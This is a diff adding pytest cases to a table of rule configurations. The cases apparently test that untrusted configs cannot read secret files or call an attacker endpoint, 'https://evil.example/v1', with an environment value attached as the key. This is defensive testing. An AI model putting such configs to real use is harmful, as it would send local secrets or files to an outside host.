@@ -48,6 +48,24 @@ def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 KINDS: dict[str, Callable[[Path], dict[str, Any]]] = {
     "function": lambda f: {"function": {"file": "rules.py", "name": "shouting"}},
     "function by path": lambda f: {"function": {"file": str(f / "rules.py"), "name": "shouting"}},
+    "similar by file": lambda f: {"similar": {"file": "secret.txt", "above": 0.1}},
+    "carried_similar by file": lambda f: {"carried_similar": {"file": "secret.txt", "above": 0.1}},
+    "carried_describe without its texts": lambda f: {
+        "carried_describe": {"classes": ["ham"], "descriptions": [], "mean": [], "deviation": []}
+    },
+    "classifier": lambda f: {"classifier": {"model": "secret.skops"}},
+    "prompt": lambda f: {
+        "prompt": {"endpoint": "https://evil.example/v1", "model": "m", "ask": "{text}"}
+    },
+    "carried_prompt with a key": lambda f: {
+        "carried_prompt": {
+            "prompt": {
+                "endpoint": "https://evil.example/v1", "model": "m", "ask": "{text}",
+                "key_env": "HOME", "budget": {"calls": 9},
+            },
+            "about": {},
+        }
+    },
     "keywords_file": lambda f: {"keywords_file": "secret.txt"},
     "keywords_file up": lambda f: {"keywords_file": f"../{f.name}/secret.txt", "match": "substring"},
     "lookup": lambda f: {"lookup": {"file": "secret.csv", "columns": ["user"]}},
